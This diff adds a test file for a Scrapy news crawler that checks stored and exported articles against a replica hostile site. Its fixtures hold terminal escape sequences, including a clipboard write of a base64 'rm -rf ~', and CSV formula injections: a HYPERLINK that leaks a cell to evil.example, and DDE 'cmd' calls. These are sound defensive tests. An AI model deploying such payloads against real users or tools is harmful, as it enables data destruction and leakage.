@@ -1,0 +1,162 @@
+"""What a hostile site's text does to the programs that read the store: the real ``scrapy crawl`` of a replica whose
+pages carry terminal escape sequences (ANSI, OSC 52 writing the clipboard, BEL, C1 controls, NUL) in every field,
+then the real ``scrapy articles``, whose output goes to an operator's terminal. No C0 control character is stored,
+and ``scrapy articles`` escapes what a record holds (C1 controls, which mojibake is made of, stay stored). Titles that
+are spreadsheet formulas (``=HYPERLINK("http://evil/?"&A1)``) reach CSV, from ``scrapy export --format csv`` and the
+crawl's own feed export, as text a spreadsheet does not run."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.crawling import ROOT, CrawlResult, StoreCrawl, crawl_environment, log_excerpt
+from tests.hostile_site import PARAGRAPHS, article, site_config
+
+pytestmark = pytest.mark.e2e
+
+DOMAIN = "output.tj"
+ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
+# Clears the screen, moves up and erases the line, writes the operator's clipboard (OSC 52), rings, C1 CSI.
+SEQUENCES = f"{ESC}[2J{ESC}[1A{ESC}[K{ESC}]52;c;cm0gLXJmIH4={BEL}{CSI}31m"
+STORED_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")  # C0 controls but tab and line breaks, and DEL
+SHOWN_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # and C1 controls, in a terminal
+
+
+def escape_page(slug: str) -> bytes:
+    """An article whose title, headline, lead, author, tags, image caption and paragraphs all carry escape sequences
+    (the JSON-LD's as JSON escapes, with a NUL)."""
+    title = f"Совещание{SEQUENCES} по энергетике"
+    page = article(slug, title=title).replace(
+        "<title>", f"<meta name='description' content='Лид{SEQUENCES} статьи'>"
+                   f"<meta name='keywords' content='энергетика{SEQUENCES}, ГЭС'><title>")
+    page = page.replace('"datePublished"', '"author": {"@type": "Person", "name": "Иван\\u0000\\u001b[8m Петров"}, '
+                                           '"keywords": "вода\\u001b[2J, свет", "datePublished"')
+    page = page.replace(f"<p>{PARAGRAPHS[0]}",
+                        f"<figure><img src='/photo.jpg'><figcaption>Фото{SEQUENCES} ГЭС</figcaption></figure>"
+                        f"<p>{SEQUENCES}{PARAGRAPHS[0]}")
+    return page.encode()
+
+
+# Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
+FORMULAS = {
+    "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
+    "formula-plus": "+cmd|' /C calc'!A0 Совещание по энергетике",
+    "formula-minus": "-2+3+cmd|' /C calc'!A0 Совещание",
+    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Совещание",
+}
+PAGES = {"escape-codes": escape_page("escape-codes"), "plain-page": article("plain-page").encode(),
+         **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
+
+
+def build(root: Path) -> Path:
+    """The replica under ``root`` (a feed of :data:`PAGES`); the site config's path."""
+    for slug, body in PAGES.items():
+        (root / "news" / slug).mkdir(parents=True)
+        (root / "news" / slug / "index.html").write_bytes(body)
+    items = "".join(f"<item><title>{slug}</title><link>https://{DOMAIN}/news/{slug}/</link>"
+                    f"<pubDate>Fri, 20 Nov 2026 10:{n:02d}:00 +0500</pubDate></item>" for n, slug in enumerate(PAGES))
+    (root / "feed").mkdir()
+    (root / "feed" / "index.xml").write_text(f"<?xml version='1.0' encoding='UTF-8'?><rss version='2.0'><channel>"
+                                             f"<title>Output</title>{items}</channel></rss>", encoding="utf-8")
+    config = root.parent / "output.toml"
+    config.write_text(site_config("output", DOMAIN, "Asia/Dushanbe"), encoding="utf-8")
+    return config
+
+
+@dataclass(frozen=True)
+class Crawled:
+    """The crawl of the replica into an embedded store, and the environment of a command reading that store."""
+
+    result: CrawlResult
+    env: dict[str, str]
+    feed_csv: Path  # the crawl's own feed export (``FEEDS``)
+
+    def command(self, *args: str) -> subprocess.CompletedProcess[str]:
+        command = subprocess.run([sys.executable, "-m", "scrapy", *args], cwd=ROOT, env=self.env, text=True,
+                                 capture_output=True, timeout=120, stdin=subprocess.DEVNULL)
+        assert command.returncode == 0, command.stderr[-3000:]
+        return command
+
+    def records(self) -> dict[str, dict[str, Any]]:
+        """The stored records by slug, as ``scrapy articles --json`` prints them."""
+        lines = self.command("articles", "--json", "--limit", "100").stdout.splitlines()
+        return {str(r["url"]).rstrip("/").rsplit("/", 1)[1]: r for r in map(json.loads, lines)}
+
+
+@pytest.fixture(scope="module")
+def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawled]:
+    root = tmp_path_factory.mktemp("output") / "site"
+    root.mkdir()
+    config = build(root)
+    feed_csv = root.parent / "items.csv"
+    feeds = json.dumps({str(feed_csv): {"format": "csv"}})
+    result = StoreCrawl(None, tmp_path_factory.mktemp("crawls"))(
+        "news", f"config={config}", replica=root, settings=["ROBOTSTXT_OBEY=0", "RETRY_TIMES=0", f"FEEDS={feeds}"],
+        timeout=120)
+    assert result.returncode == 0, log_excerpt(result.stderr)
+    yield Crawled(result, crawl_environment({}, result.data_dir), feed_csv)
+
+
+def strings(value: Any) -> Iterator[str]:
+    """Every string in a record, keys included."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            yield key
+            yield from strings(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from strings(item)
+
+
+def test_no_c0_control_character_of_a_page_is_stored(crawled: Crawled) -> None:
+    records = crawled.records()
+    assert set(records) == set(PAGES), log_excerpt(crawled.result.stderr)
+    record = records["escape-codes"]
+    found = {text[:80] for text in strings(record) if STORED_CONTROL.search(text)}
+    assert not found
+    assert record["title"] == f"Совещание[2J[1A[K]52;c;cm0gLXJmIH4={CSI}31m по энергетике"
+    assert record["paragraphs"][0].endswith(PARAGRAPHS[0])
+    assert record["lead"].startswith("Лид") and record["authors"] and record["tags"]
+
+
+def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Crawled) -> None:
+    shown = crawled.command("articles").stdout
+    assert "Совещание[2J[1A[K]52;c;cm0gLXJmIH4=\\x9b31m по энергетике" in shown
+    assert not SHOWN_CONTROL.search(shown)
+
+
+def slug_of(url: str) -> str:
+    return url.rstrip("/").rsplit("/", 1)[1]
+
+
+def test_stored_titles_are_the_pages_own(crawled: Crawled) -> None:
+    records = crawled.records()
+    assert {slug: records[slug]["title"] for slug in FORMULAS} == FORMULAS
+
+
+@pytest.mark.parametrize("source", ["scrapy export", "feed export"])
+def test_no_csv_cell_starts_as_a_formula(crawled: Crawled, tmp_path: Path, source: str) -> None:
+    if source == "scrapy export":
+        out = tmp_path / "export.csv"
+        crawled.command("export", "--format", "csv", "-o", str(out))
+    else:
+        out = crawled.feed_csv
+    with out.open(newline="", encoding="utf-8") as stream:
+        rows = {slug_of(row["url"]): row for row in csv.DictReader(stream)}
+    assert set(rows) == set(PAGES)
+    assert {slug: rows[slug]["title"] for slug in FORMULAS} == {slug: f"'{title}" for slug, title in FORMULAS.items()}
+    starts = {(slug, name): cell[:40] for slug, row in rows.items() for name, cell in row.items()
+              if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
+    assert not starts
